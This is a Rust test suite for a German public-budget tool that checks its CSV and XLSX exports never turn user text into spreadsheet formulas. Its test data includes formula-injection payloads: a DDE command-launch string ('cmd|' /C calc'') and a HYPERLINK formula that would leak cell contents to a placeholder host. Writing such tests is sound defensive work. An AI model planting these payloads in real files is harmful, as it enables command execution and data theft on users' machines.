//! What the program writes for spreadsheets is never calculated there, whatever people and systems put into it.

use std::process::Command;

use serde_json::json;
use sollist_contract::spreadsheet;

use crate::{
    outside::python,
    sollist::{Run, Sollist, event, event_of},
    stores::both_stores,
};

const OFFICE: &str = "ba-pankow";
const NEW_YEAR: &str = "2026-01-01T00:00:00+01:00";
const DAY: &str = "2026-02-02T09:00:00+01:00";

/// Texts that a spreadsheet would take for a formula, or that lead it out of the cell.
const TEXTS: [&str; 12] = [
    "=1+1",
    "+49 Rufnummern",
    "-1+2",
    "- Zuschüsse an Träger",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Klick\")",
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\"=1+1",
    "＝1+1",
    "-5",
    "a;=1+1",
];

/// Columns whose values are numbers; every other one holds texts.
const NUMBERS: [&str; 26] = [
    "year",
    "appropriation",
    "carry_over",
    "adjustments",
    "soll",
    "frozen",
    "commitments",
    "actual",
    "available",
    "value",
    "numerator",
    "denominator",
    "definition",
    "target",
    "usable",
    "pipeline",
    "quantity",
    "gross",
    "cover",
    "need",
    "line",
    "position",
    "sequence",
    "recorded",
    "duplicates",
    "lines",
];

/// The cells of a CSV by column, checked: a text is a text, a number a number.
fn cells(run: &Run) -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_reader(run.out.as_bytes());
    let header = reader.headers().unwrap().clone();
    let mut out = Vec::new();
    for row in reader.records() {
        for (column, cell) in header.iter().zip(&row.unwrap()) {
            let number = NUMBERS.contains(&column) && (spreadsheet::is_number(cell) || cell.is_empty());
            let dangerous = cell
                .trim_start_matches([' ', '"'])
                .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n']);
            assert!(number || !dangerous, "{column}: {cell:?}");
            out.push((column.to_owned(), cell.to_owned()));
        }
    }
    out
}

fn has(cells: &[(String, String)], column: &str, text: &str) {
    // Behind a sign at which some spreadsheets divide it is quoted too.
    let parted = spreadsheet::parted(spreadsheet::cell(text));
    let is = |cell: &str| spreadsheet::text(cell) == text || cell == parted;
    assert!(cells.iter().any(|(name, cell)| name == column && is(cell)), "{column}: {text:?} in {cells:?}");
}

both_stores!(no_csv_of_the_program_calculates);
fn no_csv_of_the_program_calculates() {
    let user = Sollist::new();
    let of = |id: &str, kind: &str, data| event(id, kind, DAY, &data);
    let line = "2026/30/25/bezirksamt-pankow/geraete";
    let labels = json!({"section": "=1+1", "chapter": "@SUM(1)", "title": "+1"});
    let mut lines = vec![
        event(
            "plan",
            "budget.appropriated",
            NEW_YEAR,
            &json!({"authority": OFFICE, "line": line, "amount": "-100.00", "labels": labels}),
        ),
        of(
            "kopf",
            "staffing.headcount-reported",
            json!({"authority": OFFICE, "as_of": "2026-01-01", "employees": 9, "workplaces": 9, "eligible": 9,
                "definition": "=1"}),
        ),
        event(
            "preise",
            "parameters.published",
            NEW_YEAR,
            &json!({"authority": OFFICE, "set": "p", "valid_from": "2026-01-01",
            "values": {"items": {"=2+3": {"programme": "mobile-devices", "unit_price": "10.00", "quota": "1.00",
            "life_months": 60}}}}),
        ),
    ];
    for (n, text) in TEXTS.into_iter().enumerate() {
        lines.push(event_of(
            &format!("{text} {n}"),
            text,
            "rollout.planned",
            DAY,
            &json!({"authority": OFFICE, "rollout": text, "scope": 10, "deadline": "2026-12-31"}),
        ));
        lines.push(of(
            &format!("r{n}"),
            "rollout.progressed",
            json!({"authority": OFFICE, "rollout": text, "done": 1}),
        ));
    }
    user.record(&lines);
    let mut bad: Vec<String> = Vec::new();
    for (n, text) in TEXTS.into_iter().enumerate() {
        let data = json!({"authority": "ba-nirgendwo", "rollout": text, "scope": 10, "deadline": "2026-12-31"});
        bad.push(event_of(&format!("{text} {n}"), &format!("{text}-x"), "rollout.planned", DAY, &data));
        bad.push(format!("{text} {n}"));
    }
    let refused = cells(&user.events_with(&bad, &["--format", "csv"]).ended(1));
    let plan = "Bereich;Einzelplan;Einzelplanbezeichnung;Kapitel;Kapitelbezeichnung;Titelart;Titel;Titelbezeichnung;\
                Jahr;BetragTyp;Betrag\n30;25;E-Government;2502;Bezirksamt \
                Pankow;Ausgabetitel;51101;\"=HYPERLINK(\"\"http://example.invalid\"\";\"\"Titel\"\")\";2026;Soll;\
                1000\n30;25;E-Government;2502;Bezirksamt \
                Pankow;Ausgabetitel;51102;- Zuschüsse an Träger;2026;Soll;-2000\n30;25;E-Government;2502;Bezirksamt \
                Pankow;Ausgabetitel;51103;@SUM(1+1)*cmd|' /C calc'!A0;2026;Soll;=1+1\n";
    let path = user.file("=plan.csv", plan);
    let imported = cells(
        &user
            .run(&["import".as_ref(), "budget".as_ref(), path.as_os_str(), "--format".as_ref(), "csv".as_ref()])
            .ended(1),
    );
    assert!(!imported.is_empty());
    for text in TEXTS {
        has(&refused, "id", &format!("{text}-x"));
    }
    let listed = cells(&user.say("refused --format csv").done());
    let journal = cells(&user.say("journal --format csv").done());
    let indicators = cells(&user.say("indicators --by authority --format csv").done());
    let need = cells(&user.say("need --target-day 2026-12-31 --explain --format csv").done());
    for (n, text) in TEXTS.into_iter().enumerate() {
        has(&listed, "source", &format!("{text} {n}"));
        has(&listed, "text", &format!("{text} {n}"));
        has(&journal, "id", text);
        has(&indicators, "rollout", text);
    }
    has(&need, "item", "=2+3");
    // A negative amount is a number.
    let budget = cells(&user.say("budget --by line --format csv").done());
    assert!(budget.contains(&("available".to_owned(), "-100.00".to_owned())), "{budget:?}");
    cells(&user.say("report --quarter 2026-Q1 --out =bericht.json --format csv").done());
    user.say("report --quarter 2026-Q1 --out bericht.xlsx").done();
    let look = "import sys, zipfile, re\nbook = zipfile.ZipFile(sys.argv[1])\n\
        text = ''.join(book.read(name).decode() for name in book.namelist() if name.endswith('.xml'))\n\
        print('formulas', len(re.findall('<f[ />]', text)), '>=1+1<' in text)";
    let seen = Command::new(python()).arg("-c").arg(look).arg(user.path("bericht.xlsx")).output().unwrap();
    assert_eq!(Run::of("(workbook)", &seen).done().out.trim(), "formulas 0 True");
    cells(&user.say("verify --format csv").done());
    for (id, _) in
        listed.iter().zip(0..).filter(|((name, _), _)| name == "id").map(|(cell, at)| (cell.1.clone(), at)).take(1)
    {
        cells(&user.run(&["refused", "settle", &id, "--basis", "=1+1", "--format", "csv"]).done());
    }
}

both_stores!(a_plan_whose_texts_were_written_for_a_spreadsheet_is_the_same_plan);
fn a_plan_whose_texts_were_written_for_a_spreadsheet_is_the_same_plan() {
    let plan = |quote: &str| {
        format!(
            "Bereich;Einzelplan;Einzelplanbezeichnung;Kapitel;Kapitelbezeichnung;Titelart;Titel;Titelbezeichnung;Jahr;\
             BetragTyp;Betrag\n30;25;E-Government;2502;Bezirksamt \
             Pankow;Ausgabetitel;51102;{quote}- Zuschüsse an Träger;2026;Soll;{quote}-2000\n"
        )
    };
    let take = |user: &Sollist, text: String| {
        let path = user.file("plan.csv", text);
        user.run(&["import".as_ref(), "budget".as_ref(), path.as_os_str()]).done();
        user.column("SELECT event FROM journal_events")
    };
    let user = Sollist::new();
    let first = take(&user, plan(""));
    assert_eq!(first.len(), 1, "{first:?}");
    assert_eq!(take(&user, plan("'")), first, "nothing new");
    assert_eq!(take(&Sollist::new(), plan("'")), first);
}
